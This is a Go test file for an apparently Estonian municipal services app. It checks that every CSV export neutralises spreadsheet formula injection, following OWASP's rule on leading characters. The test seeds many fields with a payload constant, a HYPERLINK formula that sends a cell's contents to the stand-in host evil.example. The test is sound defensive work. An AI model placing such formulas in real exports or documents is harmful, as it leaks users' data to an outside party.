package main

import (
	"context"
	"encoding/csv"
	"maps"
	"strings"
	"testing"

	"kovit/internal/auth"
	"kovit/internal/eservice"
	"kovit/internal/municipality"
	"kovit/internal/need"
	"kovit/internal/plan"
)

// evilText is a name that a spreadsheet would run as a formula sending the sheet away.
const evilText = `=HYPERLINK("http://evil.example/?d="&A1,"Click")`

// TestCSVExportsHoldNoFormulas puts formula-like text into a field that each CSV export
// shows and checks that no cell of any export starts with a character a spreadsheet reads
// as a formula (OWASP's rule). It fails for a CSV route without a case, so a new export
// is tested too.
func TestCSVExportsHoldNoFormulas(t *testing.T) {
	eachEngine(t, func(t *testing.T, a *testApp) {
		// The audit trail names this user as the actor of every change below.
		ctx := auth.WithUser(context.Background(), &auth.User{ID: 1, Name: "-" + evilText, Role: auth.RoleAdmin, Active: true})
		if _, err := a.store.UpdateDetails(ctx, "0793", municipality.Details{Contact: municipality.Contact{Name: evilText}, Version: 1}); err != nil {
			t.Fatal(err)
		}
		if _, err := a.store.SaveCell(ctx, "0793", "SOC-001", eservice.CellInput{Offering: eservice.Offered, System: "+" + evilText}); err != nil {
			t.Fatal(err)
		}
		s, err := a.store.CreateStrategy(ctx, plan.Strategy{TitleEt: "Kava", StartYear: 2026, EndYear: 2030, Status: plan.Adopted})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := a.store.CreateNode(ctx, plan.Node{StrategyID: s.ID, Kind: plan.Goal, Code: "1", TitleEt: "@" + evilText}); err != nil {
			t.Fatal(err)
		}
		if _, err := a.store.CreateNeed(ctx, need.Need{MunicipalityEHAK: "0793", Title: "\t" + evilText, Category: need.CatRecords}); err != nil {
			t.Fatal(err)
		}
		if _, err := a.store.CreateConsolidated(ctx, need.Consolidated{Title: "\r" + evilText, Category: need.CatRecords, Published: true}, nil); err != nil {
			t.Fatal(err)
		}
		if _, err := a.store.CreateMeasure(ctx, need.Measure{Name: evilText, StartYear: 2026, EndYear: 2029, Budget: 100, Published: true}); err != nil {
			t.Fatal(err)
		}
		round := adviceFormulaFixture(t, a, ctx, evilText)
		consultation := consultExportFixture(t, a, ctx, evilText)
		exports := map[string]string{
			"GET /consultations/{id}/comments.csv":        "/consultations/" + consultation + "/comments.csv",
			"GET /api/v1/consultations/{id}/comments.csv": "/api/v1/consultations/" + consultation + "/comments.csv",
			"GET /municipalities.csv":                     "/municipalities.csv",
			"GET /eservices/matrix.csv":                   "/eservices/matrix.csv",
			"GET /plan/strategies/{id}/export.csv":        "/plan/strategies/" + itoa(s.ID) + "/export.csv",
			"GET /needs.csv":                              "/needs.csv",
			"GET /consolidated.csv":                       "/consolidated.csv",
			"GET /measures.csv":                           "/measures.csv",
			"GET /admin/audit.csv":                        "/admin/audit.csv",
			"GET /api/v1/needs.csv":                       "/api/v1/needs.csv",
			"GET /api/v1/consolidated-needs.csv":          "/api/v1/consolidated-needs.csv",
			"GET /api/v1/measures.csv":                    "/api/v1/measures.csv",
			"GET /inquiries.csv":                          "/inquiries.csv",
			"GET /inquiries/stats.csv":                    "/inquiries/stats.csv",
			"GET /kb.csv":                                 "/kb.csv",
			"GET /comment-rounds/{id}/position.csv":       "/comment-rounds/" + itoa(round) + "/position.csv",
		}
		maps.Copy(exports, landscapeFormulaExports(t, a, ctx))
		maps.Copy(exports, securityFormulaExports(t, a, ctx))
		maps.Copy(exports, trainingFormulaExports(t, a, ctx))
		for _, r := range a.routes {
			if _, ok := exports[r]; strings.HasSuffix(r, ".csv") && !ok {
				t.Errorf("%s: no case", r)
			}
		}
		admin := a.signedIn(t, "admin@kovit.test", "admin-parool-1")
		for route, path := range exports {
			status, body := get(t, admin, a.URL+path)
			if status != 200 {
				t.Errorf("%s: %d", route, status)
				continue
			}
			cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
			cr.Comma, cr.FieldsPerRecord = ';', -1
			records, err := cr.ReadAll()
			if err != nil {
				t.Errorf("%s: %v", route, err)
				continue
			}
			found := false
			for _, rec := range records {
				for _, cell := range rec {
					found = found || strings.Contains(cell, evilText)
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: cell %q is a formula", route, cell)
					}
				}
			}
			if !found && !noEnteredText[route] {
				t.Errorf("%s shows no formula-like text to test:\n%.800s", route, body)
			}
		}
	})
}
